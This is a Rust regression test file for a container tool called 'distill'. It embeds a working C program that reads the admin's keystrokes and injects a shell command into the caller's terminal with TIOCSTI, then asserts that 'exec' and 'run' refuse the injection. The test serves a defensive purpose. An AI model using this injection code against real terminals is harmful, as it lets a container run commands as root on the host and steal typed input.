//! A container process types into the admin's shell: `distill exec` and `distill run`
//! started from a terminal must not give the container the caller's terminal (as stdin,
//! stdout or stderr, or as controlling terminal through the caller's session), or its
//! programs can push input into it with TIOCSTI (which the admin's shell then runs as root on
//! the host) or read the admin's keystrokes.

use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::Duration;

use distill_tests::pty::Terminal;
use distill_tests::Lab;

use super::Canary;

/// The attacker's program, run in the container. It first reads what the admin types next
/// (fd 0, for 5 s), then pushes `echo PWNED > CANARY` into the terminal behind fds 0, 1, 2
/// and /dev/tty with TIOCSTI, and reports each outcome with its errno.
const ATTACK_C: &str = r#"
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <unistd.h>

static const char *name(int e) {
    switch (e) {
    case ENOTTY: return "ENOTTY";
    case EPERM: return "EPERM";
    case EIO: return "EIO";
    case ENXIO: return "ENXIO";
    case EBADF: return "EBADF";
    case EACCES: return "EACCES";
    default: return strerror(e);
    }
}

int main(int argc, char **argv) {
    char line[512];
    setvbuf(stdout, NULL, _IONBF, 0);
    snprintf(line, sizeof line, "echo PWNED > %s\n", argc > 1 ? argv[1] : "/tmp/canary");
    printf("STEAL-READY\n");
    struct pollfd p = {0, POLLIN, 0};
    int r = poll(&p, 1, 5000);
    if (r > 0) {
        char buf[256];
        ssize_t n = read(0, buf, sizeof buf - 1);
        if (n > 0) {
            buf[n] = 0;
            buf[strcspn(buf, "\r\n")] = 0;
            printf("STOLE[%s]\n", buf);
        } else {
            printf("STEAL: read gave %zd (%s)\n", n, n < 0 ? name(errno) : "EOF");
        }
    } else {
        printf("STEAL: nothing to read (poll %d)\n", r);
    }
    for (int i = 0; i < 4; i++) {
        int fd = i;
        const char *what[] = {"fd0", "fd1", "fd2", "/dev/tty"};
        if (i == 3) {
            fd = open("/dev/tty", O_RDWR | O_NOCTTY);
            if (fd < 0) {
                printf("TIOCSTI %s: open %s\n", what[i], name(errno));
                continue;
            }
        }
        int err = 0;
        for (const char *c = line; *c; c++) {
            if (ioctl(fd, TIOCSTI, c) < 0) {
                err = errno;
                break;
            }
        }
        if (err)
            printf("TIOCSTI %s: %s\n", what[i], name(err));
        else
            printf("TIOCSTI %s: INJECTED\n", what[i]);
    }
    printf("ATTACK-DONE\n");
    return 0;
}
"#;

/// Compiles [`ATTACK_C`] statically into `dir/tiocsti`.
fn attack_program(dir: &Path) {
    std::fs::create_dir_all(dir).unwrap();
    let src = dir.join("tiocsti.c");
    std::fs::write(&src, ATTACK_C).unwrap();
    let out = Command::new("cc")
        .args(["-static", "-O2", "-o"])
        .arg(dir.join("tiocsti"))
        .arg(&src)
        .output()
        .expect("run cc (build-essential)");
    assert!(
        out.status.success(),
        "cc -static tiocsti.c: {}",
        String::from_utf8_lossy(&out.stderr)
    );
}

/// The admin's shell: a real `sh` on a terminal of its own, so a line pushed into its
/// terminal while `distill` runs is the next thing it executes.
fn admin_shell(lab: &Lab) -> Terminal {
    Terminal::lab_shell(lab, 24, 80)
}

/// Types `cmd` into the admin's shell (the attack program in the container), plays the
/// admin typing `: hunter2` once the program waits for input, and waits for the command's
/// exit and for the shell to be done with whatever was queued after it. Returns what the
/// terminal showed for it, and the exit code of `cmd`.
fn attack_from_shell(term: &Terminal, cmd: &str) -> (String, String) {
    let start = term.transcript().len();
    term.type_str(&format!("{cmd}; echo EXIT=$?\n"));
    let t = Duration::from_secs(60);
    // (Past the echo of the typed line, which holds "EXIT=$?".)
    let typed = term.wait_for("EXIT=$?", start, t);
    let ready = term.wait_for_any(&["STEAL-READY", "EXIT="], typed, t);
    let at = if term.transcript()[..ready].ends_with("STEAL-READY") {
        term.type_str(": hunter2\n");
        let at = term.wait_for("ATTACK-DONE", ready, t);
        term.wait_for("EXIT=", at, t)
    } else {
        ready
    };
    let end = term.transcript();
    let code: String = end[at..]
        .chars()
        .take_while(|c| c.is_ascii_digit())
        .collect();
    // Whatever got into the shell's input meanwhile is run before this line.
    term.type_str("echo END$((6*7))\n");
    term.wait_for("END42", at, t);
    (term.transcript()[start..].to_string(), code)
}

/// Checks one attack's outcome without a pseudo-terminal of the container's own (`exec` and
/// `run` without `-t`): every TIOCSTI failed (nothing to push into: no terminal among the
/// container's descriptors, no controlling terminal), and the admin's keystrokes did not
/// reach the container.
fn assert_no_terminal(shown: &str, code: &str, what: &str) {
    let all = format!("{what}: exit {code:?}; the terminal showed:\n{shown}");
    assert_eq!(code, "0", "{all}");
    // The attack ran to the end.
    assert!(shown.contains("ATTACK-DONE"), "{all}");
    for target in ["fd0", "fd1", "fd2", "/dev/tty"] {
        let line = shown
            .lines()
            .find(|l| l.starts_with(&format!("TIOCSTI {target}: ")))
            .unwrap_or_else(|| panic!("no TIOCSTI attempt on {target}: {all}"));
        assert!(
            ["ENOTTY", "EPERM", "EIO", "ENXIO"]
                .iter()
                .any(|e| line.ends_with(e)),
            "TIOCSTI on {target} was not refused ({line}): {all}"
        );
    }
    assert!(
        !shown.contains("STOLE["),
        "the container read the admin's keystrokes: {all}"
    );
}

fn start_box(lab: &Lab, bin: &Path) {
    lab.distill(&[
        "run",
        "-d",
        "--name",
        "ttybox",
        "-v",
        &format!("{}:/x:ro", bin.display()),
        "--entrypoint",
        "/bin/busybox",
        "hello",
        "sleep",
        "600",
    ])
    .ok();
}

fn setup() -> (Lab, PathBuf, Canary) {
    let lab = Lab::new();
    let bin = lab.path("x");
    attack_program(&bin);
    let canary = Canary::new(lab.path("canary"));
    (lab, bin, canary)
}

fn legacy_tiocsti() -> String {
    std::fs::read_to_string("/proc/sys/dev/tty/legacy_tiocsti")
        .map(|s| s.trim().to_string())
        .unwrap_or_else(|_| "absent".into())
}

/// `distill exec` from the admin's terminal: the exec'd program can neither push a command
/// into the admin's shell (TIOCSTI on fds 0-2 and /dev/tty) nor read the admin's
/// keystrokes. (Before the fix it ran in the caller's session with the terminal as its
/// stdin, stdout and stderr, and the shell ran the pushed `echo PWNED > CANARY` as root.)
#[test]
fn exec_never_types_into_the_callers_terminal() {
    let (lab, bin, canary) = setup();
    start_box(&lab, &bin);
    let term = admin_shell(&lab);
    let (shown, code) = attack_from_shell(
        &term,
        &format!("\"$D\" exec ttybox /x/tiocsti {}", canary.path.display()),
    );
    let what = format!("exec (dev.tty.legacy_tiocsti={})", legacy_tiocsti());
    assert_no_terminal(&shown, &code, &what);
    canary.assert_untouched();
    // With -t the program gets a terminal of its own: what it pushes there is its own input,
    // never the admin's.
    let (shown, code) = attack_from_shell(
        &term,
        &format!(
            "\"$D\" exec -it ttybox /x/tiocsti {}",
            canary.path.display()
        ),
    );
    assert_eq!(code, "0", "exec -it: {shown}");
    assert!(shown.contains("ATTACK-DONE"), "exec -it: {shown}");
    canary.assert_untouched();
    assert!(term.is_cooked(), "exec -it left the terminal in raw mode");
    term.type_str("exit\n");
    let (_, all) = term.finish(Duration::from_secs(30));
    assert!(!all.contains("PWNED\r\n"), "{all}");
    canary.assert_untouched();
    lab.distill(&["rm", "-f", "ttybox"]).ok();
}

/// The same with `distill run` (the container's init) from the admin's terminal.
#[test]
fn run_never_types_into_the_callers_terminal() {
    let (lab, bin, canary) = setup();
    let term = admin_shell(&lab);
    let volume = format!("{}:/x:ro", bin.display());
    let (shown, code) = attack_from_shell(
        &term,
        &format!(
            "\"$D\" run --rm -v {volume} --entrypoint /x/tiocsti hello {}",
            canary.path.display()
        ),
    );
    let what = format!("run (dev.tty.legacy_tiocsti={})", legacy_tiocsti());
    assert_no_terminal(&shown, &code, &what);
    canary.assert_untouched();
    // And with the caller's stdin given to it (-i): a pipe, not the terminal.
    let (shown, code) = attack_from_shell(
        &term,
        &format!(
            "\"$D\" run --rm -i -v {volume} --entrypoint /x/tiocsti hello {}",
            canary.path.display()
        ),
    );
    // (-i gives it the keystrokes by design; it must not get the terminal itself.)
    for target in ["fd0", "fd1", "fd2", "/dev/tty"] {
        assert!(
            !shown.contains(&format!("TIOCSTI {target}: INJECTED")),
            "run -i: {shown}"
        );
    }
    assert_eq!(code, "0", "run -i: {shown}");
    canary.assert_untouched();
    let (shown, code) = attack_from_shell(
        &term,
        &format!(
            "\"$D\" run --rm -it -v {volume} --entrypoint /x/tiocsti hello {}",
            canary.path.display()
        ),
    );
    assert_eq!(code, "0", "run -it: {shown}");
    assert!(shown.contains("ATTACK-DONE"), "run -it: {shown}");
    assert!(term.is_cooked(), "run -it left the terminal in raw mode");
    term.type_str("exit\n");
    let (_, all) = term.finish(Duration::from_secs(30));
    assert!(!all.contains("PWNED\r\n"), "{all}");
    canary.assert_untouched();
}
